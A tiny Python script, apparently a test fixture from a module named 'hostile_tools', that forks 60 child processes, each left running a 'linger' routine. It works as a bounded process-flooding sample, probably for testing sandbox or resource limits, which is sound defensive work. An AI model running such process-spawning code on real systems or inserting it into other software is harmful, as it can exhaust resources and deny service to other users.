"""Starts process after process."""

import os

from hostile_tools import linger

for _ in range(60):
    if os.fork() == 0:
        linger()
